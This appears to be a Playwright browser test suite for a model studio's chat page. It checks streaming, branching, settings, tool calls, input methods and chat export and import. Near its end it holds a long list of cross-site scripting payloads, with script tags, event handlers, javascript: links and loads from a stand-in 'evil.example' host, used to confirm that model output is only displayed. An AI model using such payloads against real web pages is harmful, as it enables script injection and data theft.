"""The chat page against a model that says what the test wants: nothing is trained here.

Conversations are really kept by the studio; only what a model would answer is made up, inside the page's own
``fetch`` (piece by piece) or as a routed answer of ``/v1``.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.browser.chat_rig import BASE, CHAT, MODEL, TUNED, answers, ask, asked, finished, kept, make_models
from tests.browser.pages import Problems, axe
from tests.integration.studio import RunningStudio


@pytest.fixture(scope="module", autouse=True)
def models(studio: RunningStudio) -> None:
    make_models(studio)


@pytest.fixture
def chat(page: Page) -> Iterator[Page]:
    page.add_init_script(MODEL)
    page.goto("/chat")
    yield page


def test_what_is_sent_before_the_scripts_are_here_is_sent(page: Page) -> None:
    page.add_init_script(MODEL)
    held: list[Route] = []
    page.route(re.compile("/dist/chat-[^/]*\\.js"), lambda route: held.append(route))
    page.goto("/chat", wait_until="commit")
    ask(page, "Am I too early?")
    expect(page.get_by_label("Your message")).to_have_value("Am I too early?\n")
    held[0].continue_()
    finished(page, 1)
    expect(page.locator(".message.user .said")).to_have_text("Am I too early?")
    expect(page.get_by_label("Your message")).to_have_value("")


def test_a_talk(chat: Page, studio: RunningStudio) -> None:
    page = chat
    assert not axe(page), "\n".join(axe(page))
    page.get_by_role("button", name="Who are you?").click()
    finished(page, 1)
    expect(page).to_have_url(CHAT)
    expect(page.get_by_role("heading", level=1)).to_have_text("Who are you?")
    expect(page.locator("chat-list").get_by_role("link", name="Who are you?")).to_be_visible()
    expect(answers(page).locator("strong")).to_have_text("small")
    expect(page.locator(".message.assistant")).to_contain_text(re.compile(r"Tuned, step 20 · 5 tokens · \d+ tokens/s"))
    expect(page.get_by_role("status").filter(has_text="It is a small answer.")).to_be_attached()
    assert asked(page)["path"] == "/v1/chat/completions" and asked(page)["body"]["model"] == TUNED

    field = page.get_by_label("Your message")
    field.fill("one")
    field.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True})
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    expect(field).to_have_value("one\ntwo")
    page.evaluate("window.answer = 'word '.repeat(500)")
    page.keyboard.press("Enter")
    expect(answers(page).nth(1)).to_contain_text("word word word")
    page.keyboard.press("Escape")
    expect(page.locator(".message.assistant").nth(1)).to_contain_text("stopped")
    finished(page, 2)
    partial = answers(page).nth(1).inner_text().strip()
    assert 3 <= len(partial.split()) < 400
    kept(page, studio, partial, 4)
    page.reload()
    expect(answers(page).nth(1)).to_have_text(partial)
    expect(page.locator(".message.assistant").nth(1)).to_contain_text("stopped")
    assert not axe(page), "\n".join(axe(page))

    page.evaluate("window.answer = '<think>Let me see.</think>Another one.'")
    page.get_by_role("button", name="Answer again").last.click()
    expect(page.get_by_role("button", name="Stop")).to_be_focused()
    expect(answers(page).nth(1)).to_contain_text("Another one.")
    finished(page, 2)
    assert [m["role"] for m in asked(page)["body"]["messages"]] == ["user", "assistant", "user"]
    thought = page.locator(".thoughts").get_by_text("Let me see.")
    expect(thought).to_be_hidden()
    page.get_by_text("Thoughts").click()
    expect(thought).to_be_visible()

    page.get_by_role("button", name="Edit this message").first.click()
    page.get_by_role("textbox", name="Edit this message").fill("Who else?")
    page.get_by_role("button", name="Send again").click()
    finished(page, 1)
    assert asked(page)["body"]["messages"] == [{"role": "user", "content": "Who else?"}]
    page.locator(".message.user").get_by_role("button", name="Branch before this one").click()
    expect(page.locator(".message.user .said").first).to_have_text("Who are you?")
    expect(answers(page)).to_have_count(2)  # what was said there is still there
    page.get_by_label("Your message").fill("half a thought")
    page.wait_for_timeout(2500)
    page.reload()
    expect(page.get_by_label("Your message")).to_have_value("half a thought")
    expect(answers(page)).to_have_count(2)


def test_settings_title_and_deletion(chat: Page, studio: RunningStudio) -> None:
    page = chat
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Temperature").fill("3")
    page.get_by_label("Seed").fill("7")
    expect(page.get_by_text("less than or equal to 2")).to_be_visible()
    page.get_by_role("button", name="Done").click()
    expect(page.get_by_label("Temperature")).to_be_focused()  # what is wrong keeps the dialog open
    page.get_by_label("Temperature").fill("0")
    page.get_by_label("System prompt").fill("Be kind.")
    assert not axe(page), "\n".join(axe(page))
    page.get_by_role("button", name="Done").click()
    ask(page, "Hello")
    finished(page, 1)
    body = asked(page)["body"]
    assert (body["temperature"], body["seed"], "top_k" in body) == (0, 7, False)
    assert body["messages"][0] == {"role": "system", "content": "Be kind."}
    page.get_by_role("button", name="Rename").click()
    page.get_by_role("textbox", name="Title").fill("My talk")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("My talk")
    page.reload()
    expect(page.get_by_role("heading", level=1)).to_have_text("My talk")
    expect(page.locator("#s-temperature")).to_have_value("0")
    id = page.url.rpartition("/")[2]
    assert studio.client.get(f"/conversations/{id}")["system"] == "Be kind."
    page.get_by_role("button", name="Delete").first.click()
    page.get_by_role("button", name="Delete it").click()
    expect(page).to_have_url(re.compile("/chat$"))
    assert id not in [c["id"] for c in studio.client.get("/conversations")["items"]]


def test_a_model_that_only_continues_text(chat: Page) -> None:
    page = chat
    page.get_by_label("Model that answers").select_option(BASE)
    expect(page.get_by_text("This model has not been taught to answer yet: it continues text.")).to_be_visible()
    page.evaluate("window.answer = ' was **a** fox. '")
    ask(page, "Once upon a time there")
    finished(page, 1)
    assert asked(page)["path"] == "/v1/completions"
    assert asked(page)["body"]["prompt"] == "Once upon a time there"
    expect(answers(page)).to_contain_text("was **a** fox.")
    page.get_by_role("button", name="Go on").click()
    expect(answers(page)).to_contain_text("was **a** fox.  was **a** fox.", use_inner_text=False)
    finished(page, 1)
    assert asked(page)["body"]["prompt"] == "Once upon a time there was **a** fox. "
    page.evaluate("() => { window.model = window.fetch; window.fetch = () => Promise.reject(new TypeError('away')) }")
    page.get_by_role("button", name="Go on").click()
    page.get_by_role("button", name="Try again").wait_for()
    page.evaluate("() => { window.fetch = window.model; window.answer = 'The end.' }")
    page.get_by_role("button", name="Try again").click()  # what was there stays
    expect(answers(page)).to_contain_text("was **a** fox.  was **a** fox. The end.", use_inner_text=False)
    finished(page, 1)
    page.get_by_role("button", name="Chat", exact=True).click()
    ask(page, "And you?")
    finished(page, 2)
    assert asked(page)["path"] == "/v1/chat/completions"


def test_what_fails_is_said_and_nothing_is_lost(page: Page, problems: Problems, studio: RunningStudio) -> None:
    problems.allow("status of (429|400|503)|net::ERR_FAILED")
    refusals = [(429, {"message": "16 requests wait.", "code": "server_busy"}, {"Retry-After": "2"}),
                (400, {"message": "Too many tokens.", "code": "context_length_exceeded"}, {})]

    def model(route: Route) -> None:
        if refusals:
            status, error, headers = refusals.pop(0)
            route.fulfill(status=status, json={"error": error}, headers=headers)
        else:
            route.fulfill(body=stream("All is well."), content_type="text/event-stream")

    page.route("**/v1/chat/completions", model)
    page.route("**/api/v1/conversations", lambda route: route.abort())
    page.goto("/chat")
    ask(page, "Are you there?")
    expect(page.locator("chat-thread").get_by_text("16 requests wait.")).to_be_visible()
    expect(page.get_by_text("It may work again in 2 s. Your message is kept.")).to_be_visible()
    expect(page.get_by_text("This conversation could not be saved")).to_be_visible()
    expect(page.locator(".message.user .said")).to_have_text("Are you there?")
    page.get_by_role("button", name="Try again").click()
    expect(page.get_by_text("Begin a new chat, or edit an earlier message")).to_be_visible()
    assert not axe(page), "\n".join(axe(page))
    page.unroute("**/api/v1/conversations")
    page.get_by_role("button", name="Try again").click()
    expect(answers(page)).to_have_text("All is well.")
    expect(page.get_by_text("This conversation could not be saved")).to_be_hidden()
    kept(page, studio, "All is well.", 2)
    page.reload()
    expect(answers(page)).to_have_text("All is well.")


def test_a_reload_in_the_middle_of_an_answer_goes_on_with_it(chat: Page, studio: RunningStudio) -> None:
    page = chat
    page.evaluate("window.answer = 'word '.repeat(500)")
    ask(page, "Tell me everything")
    expect(page).to_have_url(CHAT)
    expect(answers(page)).to_contain_text("word word word")
    page.wait_for_timeout(300)
    page.reload()
    finished(page, 1)
    kept(page, studio, "It is a **small** answer.", 2)
    body = asked(page)["body"]
    assert body["continue_final_message"] is True and body["messages"][-1]["content"].startswith("word word")
    page.get_by_label("Search your chats").fill("small ANSWER")
    expect(page.locator(".chat-excerpt").first).to_contain_text("small")
    page.get_by_role("button", name="Branch from here").first.click()
    expect(answers(page)).to_have_count(0)
    expect(page.locator(".message.user .said")).to_have_text("Tell me everything")


def test_a_page_that_is_left_behind_its_save_is_not_refused(chat: Page, studio: RunningStudio) -> None:
    """The studio has it, the page has not heard so and saves once more as it is left: nothing is wrong with that."""
    page = chat
    ask(page, "First")
    finished(page, 1)
    expect(page).to_have_url(CHAT)
    kept(page, studio, "answer", 2)
    page.wait_for_timeout(300)  # the page has heard of it
    held: list[Route] = []

    def hold(route: Route) -> None:
        """The studio has it; nothing comes back."""
        if held:
            route.continue_()
        else:
            held.append(route)
            route.fetch()

    page.route("**/api/v1/conversations/*", hold)
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Temperature").fill("0.25")
    page.get_by_role("button", name="Done").click()
    id = page.url.rpartition("/")[2]
    deadline = time.monotonic() + 10
    while studio.client.get(f"/conversations/{id}")["sampling"].get("temperature") != 0.25:
        assert time.monotonic() < deadline
        page.wait_for_timeout(100)
    with page.expect_request(lambda request: request.method == "PATCH"):
        page.reload()
    expect(answers(page)).to_have_count(1)
    page.wait_for_timeout(500)  # a refusal would be an error in the page
    page.unroute_all()


def test_two_tabs(chat: Page, context: BrowserContext, problems: Problems, studio: RunningStudio) -> None:
    problems.allow("status of 409")
    ask(chat, "First")
    finished(chat, 1)
    expect(chat).to_have_url(CHAT)
    kept(chat, studio, "answer", 2)
    other = context.new_page()
    other.add_init_script(MODEL)
    other.goto(chat.url)
    ask(other, "From the other tab")
    finished(other, 2)
    kept(other, studio, "answer", 4)
    ask(chat, "From this tab")
    expect(chat.get_by_text("This conversation was changed in another tab.")).to_be_visible()
    finished(chat, 2)
    chat.get_by_role("button", name="Show the other version").click()
    expect(chat.locator(".message.user .said").nth(1)).to_have_text("From the other tab")
    ask(other, "Once more")
    finished(other, 3)
    kept(other, studio, "answer", 6)
    ask(chat, "No, mine")
    chat.get_by_role("button", name="Keep mine").click()
    finished(chat, 3)
    expect(chat.get_by_text("This conversation was changed in another tab.")).to_be_hidden()
    other.get_by_role("button", name="Edit this message").first.click()
    other.get_by_role("textbox", name="Edit this message").fill("half a thought")
    other.evaluate("dispatchEvent(new Event('focus'))")  # looked at again
    other.wait_for_timeout(300)
    expect(other.get_by_role("textbox", name="Edit this message")).to_have_value("half a thought")
    other.keyboard.press("Escape")
    other.evaluate("dispatchEvent(new Event('focus'))")
    expect(other.locator(".message.user .said").nth(2)).to_have_text("No, mine")


def piece(finish: str | None = None, **delta: object) -> dict:
    return {"choices": [{"delta": delta, "finish_reason": finish}]}


def test_an_input_method_sends_nothing(chat: Page, context: BrowserContext) -> None:
    """Chinese as it is typed: letters that are composed, an Enter that takes the word, and one that sends."""
    page = chat
    keys = context.new_cdp_session(page)

    def enter_of_the_method(*, word: str) -> None:
        key = {"key": "Process", "code": "Enter", "windowsVirtualKeyCode": 229}
        keys.send("Input.imeSetComposition", {"text": "ni hao", "selectionStart": 6, "selectionEnd": 6})
        keys.send("Input.dispatchKeyEvent", {"type": "rawKeyDown", **key})
        keys.send("Input.insertText", {"text": word})
        # Safari hands it over behind the word, as an Enter that only its code tells from another one
        keys.send("Input.dispatchKeyEvent", {"type": "rawKeyDown", **key, "key": "Enter"})
        keys.send("Input.dispatchKeyEvent", {"type": "keyUp", **key})

    field = page.get_by_label("Your message")
    field.focus()
    enter_of_the_method(word="你好")
    expect(field).to_have_value("你好")
    keys.send("Input.imeSetComposition", {"text": "ma", "selectionStart": 2, "selectionEnd": 2})
    page.keyboard.press("Enter")
    page.keyboard.press("Alt+r")
    assert page.evaluate("window.asked.length") == 0
    keys.send("Input.imeSetComposition", {"text": "", "selectionStart": 0, "selectionEnd": 0})
    field.fill("你好吗")
    page.keyboard.press("Enter")
    finished(page, 1)
    expect(page.locator(".message.user .said")).to_have_text("你好吗")
    assert asked(page)["body"]["messages"] == [{"role": "user", "content": "你好吗"}]

    page.get_by_role("button", name="Edit this message").click()
    enter_of_the_method(word="们")
    expect(page.get_by_role("textbox", name="Edit this message")).to_have_value("你好吗们")
    page.keyboard.press("Escape")
    expect(page.locator(".message.user .said")).to_have_text("你好吗")
    assert page.evaluate("window.asked.length") == 1

    page.get_by_role("button", name="Rename").click()
    enter_of_the_method(word="题")
    expect(page.get_by_role("textbox", name="Title")).to_have_value("题")
    expect(page.get_by_role("dialog", name="Rename this chat")).to_be_visible()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("题")
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Name of the preset").focus()
    enter_of_the_method(word="名")
    expect(page.get_by_label("Name of the preset")).to_have_value("名")
    expect(page.get_by_role("dialog", name="How it answers")).to_be_visible()
    page.get_by_role("button", name="Done").click()
    searches: list[str] = []
    page.on("request", lambda request: searches.append(request.url) if "q=" in request.url else None)
    page.get_by_label("Search your chats").focus()
    keys.send("Input.imeSetComposition", {"text": "ni", "selectionStart": 2, "selectionEnd": 2})
    page.wait_for_timeout(400)
    assert not searches, "half a word is not searched for"
    enter_of_the_method(word="你好")
    expect(page.locator(".chat-excerpt").first).to_have_text("你好吗")


@pytest.mark.slow  # browser tests have ten minutes
def test_presets_are_kept_chosen_and_deleted(chat: Page, studio: RunningStudio) -> None:
    page = chat
    page.get_by_role("button", name="Settings").click()
    dialog = page.get_by_role("dialog", name="How it answers")
    preset, name = dialog.get_by_label("Preset", exact=True), dialog.get_by_label("Name of the preset")
    dialog.get_by_label("Temperature").fill("0.3")
    dialog.get_by_label("System prompt").fill("Speak like a pirate.")
    name.fill("Pirate <b>")
    dialog.get_by_role("button", name="Save as new").click()
    expect(preset.locator("option:checked")).to_have_text("Pirate <b>")
    preset.select_option("Daring")
    expect(dialog.get_by_label("Temperature")).to_have_value("1.2")
    expect(dialog.get_by_label("System prompt")).to_have_value("Speak like a pirate.")
    expect(dialog.get_by_role("button", name="Delete preset")).to_be_hidden()
    dialog.get_by_role("button", name="Back to the defaults").click()
    page.get_by_role("button", name="Done").click()
    page.reload()
    page.get_by_role("button", name="Settings").click()
    preset.select_option("Pirate <b>")
    expect(dialog.get_by_label("Temperature")).to_have_value("0.3")
    dialog.get_by_label("Temperature").fill("0.4")
    dialog.get_by_role("button", name="Update").click()
    name.fill("Corsair")
    dialog.get_by_role("button", name="Rename").click()
    expect(preset.locator("option:checked")).to_have_text("Corsair")
    assert [(p["name"], p["sampling"], p["system"]) for p in studio.client.get("/chat/presets")["items"]] == [
        ("Corsair", {**dict.fromkeys(p["sampling"]), "temperature": 0.4}, "Speak like a pirate.")
        for p in studio.client.get("/chat/presets")["items"]]
    page.get_by_role("button", name="Done").click()
    ask(page, "Who goes there?")
    finished(page, 1)
    body = asked(page)["body"]
    assert (body["temperature"], body["messages"][0]["content"]) == (0.4, "Speak like a pirate.")
    page.get_by_role("button", name="Settings").click()
    preset.select_option("Corsair")
    dialog.get_by_role("button", name="Delete preset").click()
    expect(preset.get_by_role("option", name="Corsair")).to_have_count(0)
    assert studio.client.get("/chat/presets")["items"] == []


def test_tools_are_called_and_what_came_of_it_is_shown(chat: Page, studio: RunningStudio, problems: Problems) -> None:
    page = chat
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Tools: it may calculate").check()
    page.get_by_role("button", name="Done").click()
    call = {"index": 0, "id": "call_1", "type": "function",
            "function": {"name": "calculate_math", "arguments": '{"expression": "6*7"}'}}
    page.evaluate("script => { window.script = script }", [
        [piece(reasoning_content="It wants a product."), piece(tool_calls=[call]), piece("tool_calls")],
        [piece(content="It is 42."), piece("stop")]])
    ask(page, "What is 6 times 7?")
    expect(page.locator(".message.assistant")).to_have_count(2)
    finished(page, 2)
    shown = page.get_by_role("group", name="Call of calculate_math")
    expect(shown).to_contain_text('expression: "6*7"')
    expect(shown).to_contain_text('"result": "42"')
    expect(answers(page).last).to_have_text("It is 42.")
    body = asked(page)["body"]
    assert "calculate_math" in [tool["function"]["name"] for tool in body["tools"]]
    assert [m["role"] for m in body["messages"]] == ["user", "assistant", "tool"]
    assert not axe(page), "\n".join(axe(page))
    kept(page, studio, "It is 42.", 4)
    problems.allow("net::ERR_FAILED")
    page.route("**/api/v1/tools", lambda route: route.abort())
    page.reload()
    expect(shown).to_contain_text('"result": "42"')
    expect(page.get_by_role("button", name="Answer again")).to_have_count(1)
    ask(page, "And 6 times 8?")
    expect(page.get_by_text("The model was not asked, because its tools could not be loaded")).to_be_visible()
    assert page.evaluate("window.asked.length") == 0
    page.unroute("**/api/v1/tools")
    page.get_by_role("button", name="Try again").click()
    expect(answers(page).last).to_have_text("It is a small answer.")


def test_every_key_has_its_work(chat: Page, context: BrowserContext, studio: RunningStudio) -> None:
    page = chat
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.evaluate("script => { window.script = script }", [
        [piece(content="One, two,"), piece("length")], [piece(content=" three."), piece("stop")]])
    ask(page, "Count")
    expect(page.locator(".message.assistant")).to_contain_text("cut off at the limit")
    page.get_by_role("button", name="Go on").click()
    expect(answers(page)).to_have_text("One, two, three.")
    finished(page, 1)
    expect(page.get_by_role("button", name="Go on")).to_have_count(0)
    assert asked(page)["body"]["continue_final_message"] is True
    page.evaluate("window.answer = '```python\\nprint(1)\\n```\\nThat $x^2$ is it.'")
    ask(page, "More")
    finished(page, 2)
    spoken = page.locator("[data-spoken]")
    expect(spoken).to_have_text(re.compile(r"print\(1\)\s+That .*x\^2.* is it"))
    assert "Copy" not in spoken.inner_text() and "Python" not in spoken.inner_text()

    page.evaluate("window.answer = 'Uno.'")
    page.get_by_role("button", name="Answer again").first.click()  # an older answer: its branch is shown
    expect(answers(page)).to_have_text(["Uno."])
    finished(page, 1)
    assert [m["content"] for m in asked(page)["body"]["messages"]] == ["Count"]
    page.keyboard.press("Alt+j")
    expect(answers(page).first).to_have_text("One, two, three.")
    expect(answers(page)).to_have_count(2)
    page.evaluate("window.answer = 'Dos.'")
    page.get_by_label("Your message").focus()
    page.keyboard.press("Alt+r")
    expect(answers(page)).to_have_text(["One, two, three.", "Dos."])
    finished(page, 2)
    page.keyboard.press("Alt+c")
    expect(page.get_by_role("status").filter(has_text="Copied.")).to_be_attached()
    assert page.evaluate("navigator.clipboard.readText()") == "Dos."
    page.keyboard.press("Alt+j")
    expect(answers(page).last).to_contain_text("print(1)")
    page.keyboard.press("Alt+l")
    expect(answers(page)).to_have_text(["One, two, three.", "Dos."])
    page.get_by_role("button", name="Delete branch").last.click()
    expect(answers(page).last).to_contain_text("print(1)")
    page.keyboard.press("Alt+u")
    expect(page.get_by_role("textbox", name="Edit this message")).to_be_focused()
    expect(page.get_by_role("textbox", name="Edit this message")).to_have_value("More")
    page.keyboard.press("Escape")
    page.keyboard.press("Alt+k")
    expect(page.get_by_label("Search your chats")).to_be_focused()
    page.keyboard.type("?")
    expect(page.get_by_role("dialog")).to_have_count(0)
    page.keyboard.press("Alt+m")
    expect(page.get_by_label("Your message")).to_be_focused()
    page.keyboard.press("Control+/")
    dialog = page.get_by_role("dialog", name="Keyboard shortcuts")
    expect(dialog).to_contain_text("Alt+R")
    assert not axe(page), "\n".join(axe(page))
    page.keyboard.press("Alt+r")  # behind a dialog nothing is done
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    finished(page, 2)
    page.get_by_role("heading", level=1).click()
    page.keyboard.press("?")
    expect(dialog).to_be_visible()
    dialog.get_by_role("button", name="Close").click()
    page.get_by_role("button", name="Keyboard shortcuts").click()
    expect(dialog).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("Alt+n")
    page.wait_for_url(re.compile(r"/chat\?checkpoint="))
    expect(answers(page)).to_have_count(0)


@pytest.mark.slow  # browser tests have ten minutes
def test_a_draft_goes_along_with_links(chat: Page, studio: RunningStudio) -> None:
    page = chat
    first, second = (studio.client.post("/conversations", {"title": name, "messages": [
        {"role": "user", "content": name}]})["id"] for name in ("First talk", "Second talk"))
    page.goto(f"/chat/{first}")
    page.get_by_label("Your message").fill("half a thought")
    page.locator("chat-list").get_by_role("link", name="Second talk").click()
    page.wait_for_url(f"**/chat/{second}")
    expect(page.get_by_label("Your message")).to_have_value("")
    page.get_by_role("link", name="Runs", exact=True).click()
    page.wait_for_url("**/runs")
    page.get_by_role("link", name="Chat", exact=True).click()
    page.locator("chat-list").get_by_role("link", name="First talk").click()
    page.wait_for_url(f"**/chat/{first}")
    expect(page.get_by_label("Your message")).to_have_value("half a thought")
    page.keyboard.press("Enter")
    finished(page, 1)
    page.go_back()
    page.wait_for_url(re.compile("/chat$"))
    page.locator("chat-list").get_by_role("link", name="First talk").click()
    page.wait_for_url(f"**/chat/{first}")
    expect(answers(page)).to_have_count(1)
    expect(page.get_by_label("Your message")).to_have_value("")  # it was sent
    assert page.evaluate("localStorage.length + sessionStorage.length") == 0


def test_a_chat_goes_out_as_a_file_and_comes_back(chat: Page, context: BrowserContext, studio: RunningStudio,
                                                  problems: Problems) -> None:
    page = chat
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.evaluate("window.answer = 'Hi **you**.'")
    ask(page, "Hello\nthere")
    finished(page, 1)
    page.evaluate("window.answer = '<script>ran=1</script>中文'")
    page.get_by_role("button", name="Answer again").click()
    expect(answers(page)).to_contain_text("中文")
    finished(page, 1)
    kept(page, studio, "中文", 3)
    original = studio.client.get(f"/conversations/{page.url.rpartition('/')[2]}")
    files = {}
    for name in ("Markdown", "JSON"):
        page.get_by_role("button", name="Export").click()
        with page.expect_download() as download:
            page.get_by_role("dialog").get_by_role("button", name=name, exact=True).click()
        files[name] = download.value.path().read_text(encoding="utf-8")
        assert download.value.suggested_filename == {"Markdown": "Hello.md", "JSON": "Hello.json"}[name]
    assert files["Markdown"] == ("# Hello\n\n## You\n\nHello\nthere\n\n## Tuned, step 20\n\n"
                                 "<script>ran=1</script>中文\n")
    talk = json.loads(files["JSON"])
    assert (talk["branches"], talk["head"]) == ([{k: v for k, v in m.items() if v is not None}
                                                for m in original["messages"]], original["head"])
    assert talk["messages"] == [{"role": "user", "content": "Hello\nthere"},
                                {"role": "assistant", "content": "<script>ran=1</script>中文"}]
    page.get_by_role("button", name="Export").click()
    page.get_by_role("button", name="Copy this chat as Markdown").click()
    expect(page.get_by_role("status").filter(has_text="Copied.")).to_be_attached()
    assert page.evaluate("navigator.clipboard.readText()") == files["Markdown"]
    page.keyboard.press("Escape")

    def bring(name: str, content: str) -> None:
        with page.expect_file_chooser() as chooser:
            page.get_by_role("button", name="Import a chat").click()
        chooser.value.set_files({"name": name, "mimeType": "application/json", "buffer": content.encode()})

    problems.allow("status of 422")
    for content, said in (("nonsense", "This file is not JSON"), ('{"messages": 3}', "This file holds no conversation"),
                          ('[{"role": "king", "content": "x"}]', "role")):
        bring("x.json", content)
        expect(page.locator("toast-stack .notice").last).to_contain_text("x.json was not imported.")
        expect(page.locator("toast-stack .notice").last).to_contain_text(said)
    before = page.url
    bring("again.json", files["JSON"])
    page.wait_for_url(lambda url: url != before)
    expect(answers(page)).to_contain_text("<script>ran=1</script>中文")
    assert page.evaluate("window.ran") is None
    again = studio.client.get(f"/conversations/{page.url.rpartition('/')[2]}")
    assert {k: again[k] for k in ("title", "messages", "head", "sampling", "checkpoint_id")} == {
        k: original[k] for k in ("title", "messages", "head", "sampling", "checkpoint_id")}
    page.get_by_role("button", name="Branch before this one").click()
    expect(answers(page)).to_have_text("Hi you.")
    hostile = [{"role": "user", "content": payload} for payload in PAYLOADS[:20]]
    bring("<img src=x onerror=ran=1>.json", json.dumps({"messages": hostile, "title": PAYLOADS[3]}))
    expect(page.locator(".message.user .said")).to_have_count(len(hostile))
    expect(page.get_by_role("heading", level=1)).to_have_text(PAYLOADS[3])
    assert_only_shown(page)


def test_on_a_phone(chat: Page) -> None:
    page = chat
    page.set_viewport_size({"width": 390, "height": 844})
    wide = f"{'w' * 300} https://example.org/{'x' * 300}\n\n|{'c' * 90}|{'d' * 90}|\n|-|-|\n\n```\n{'code' * 90}\n```"
    page.evaluate("text => { window.answer = text; window.pauseMs = 1 }", wide)
    ask(page, f"{'宽' * 200} {'🦊' * 100} {'y' * 300}")
    finished(page, 1)
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    page.get_by_role("button", name="Conversations").click()
    expect(page.locator("chat-list a[aria-current]")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert not axe(page), "\n".join(axe(page))


RUN = "(window.ran=1,alert(1))"
EVIL = "//evil.example/x"
#: what a model could be made to say; each would set window.ran, open a dialog or ask another host if it were believed
PAYLOADS = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC=http:{EVIL}.js></SCRIPT>", f"<script>{RUN}",
    f"<img src=x onerror={RUN}>", f"<img src=http:{EVIL}.png>", f"<img srcset='http:{EVIL}.png 1x'>",
    f"<IMG \"\"\"><SCRIPT>{RUN}</SCRIPT>\">", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math><a xlink:href='javascript:{RUN}'>x</a></math>", f"<iframe src='javascript:{RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", f"<iframe src=http:{EVIL}></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>", f"<embed src=http:{EVIL}.swf>",
    f"<link rel=stylesheet href=http:{EVIL}.css>", f"<style>@import 'http:{EVIL}.css';</style>",
    f"<style>body{{background:url(http:{EVIL}.png)}}</style>", f"<p style='background:url(http:{EVIL}.png)'>x</p>",
    f"<meta http-equiv=refresh content='0;url=http:{EVIL}'>", f"<base href=http:{EVIL}/>",
    f"<form action=http:{EVIL}><button autofocus onfocus={RUN}>x</button></form>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>", f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video src=http:{EVIL}.mp4 onerror={RUN} autoplay></video>",
    f"<audio src=http:{EVIL}.mp3 onerror={RUN} autoplay></audio>", f"<video><source onerror={RUN} src=x></video>",
    f"<body onload={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>", f"<a href='javascript:{RUN}'>x</a>",
    f"<div contenteditable onblur={RUN} tabindex=1 autofocus>x</div>", f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})", f"[x](java&#x09;script:{RUN})", f"[x](&#106;avascript:{RUN})",
    f"[x](<java\tscript:{RUN}>)", f"<javascript:{RUN}>", f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](vbscript:{RUN})", f"[x](//evil.example 'a\" onmouseover=\"{RUN}')",
    f"[x](https://example.org/\"onfocus=\"{RUN}\"autofocus=\")", f"![x](http:{EVIL}.png)",
    f"![x](x \"\\\" onerror=\\\"{RUN}\")", f"![x\" onerror=\"{RUN}](http:{EVIL}.png)",
    f"[![x](http:{EVIL}.png)](javascript:{RUN})", f"![x][1]\n\n[1]: http:{EVIL}.png",
    f"[x][1]\n\n[1]: javascript:{RUN}", f"```html\n</code></pre><img src=x onerror={RUN}>\n```",
    f"```\"><img/src=x/onerror={RUN}>\ncode\n```", f"`</code><img src=x onerror={RUN}>`",
    f"|<img src=x onerror={RUN}>|\n|-|\n|<script>{RUN}</script>|",
    f"# <img src=x onerror={RUN}>\n> <svg onload={RUN}>",
    f"<think><img src=x onerror={RUN}></think><script>{RUN}</script>", f"<think>![x](http:{EVIL}.png)",
    f"<pre><img src=x onerror={RUN}></pre>", f"*<b onclick={RUN}>*_<i>_</b>**<img src=x onerror={RUN}>**",
    f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[><img src=x onerror={RUN}>]]>", f"<?xml ?><x onclick={RUN}>",
    f"<a\u2028href='javascript:{RUN}'>x</a>", "{{constructor.constructor('ran=1')()}} ${window.ran=1}",
    f"\u202e<img src=x onerror={RUN}>\ufeff", f"<x-<img src=x onerror={RUN}>",
    "<chat-page data-view='{}'></chat-page>", f"https://example.org/<img src=x onerror={RUN}>",
    f"<b>{'<div>' * 300}<img src=x onerror={RUN}>",
]
FORBIDDEN = ("script, img, svg, math, iframe, object, embed, link, style, meta, base, form, input, select, video, "
             "audio, source, template, noscript, marquee, [style], [onerror], [onload], [onclick], chat-page")


def stream(text: str) -> str:
    """An answer of ``/v1/chat/completions``, in pieces of seven characters."""
    chunks = [{"choices": [{"delta": {"content": text[i:i + 7]}}]} for i in range(0, len(text), 7)]
    chunks.append({"choices": [{"delta": {}, "finish_reason": "stop"}]})
    return "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"


def test_whatever_a_model_says_is_only_shown(page: Page, problems: Problems, studio: RunningStudio) -> None:
    """Every payload as an answer, and as a question; then all of them again from the studio, and as one text."""
    assert len(PAYLOADS) >= 60 and len(set(PAYLOADS)) == len(PAYLOADS)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route("**/v1/chat/completions", lambda route: route.fulfill(
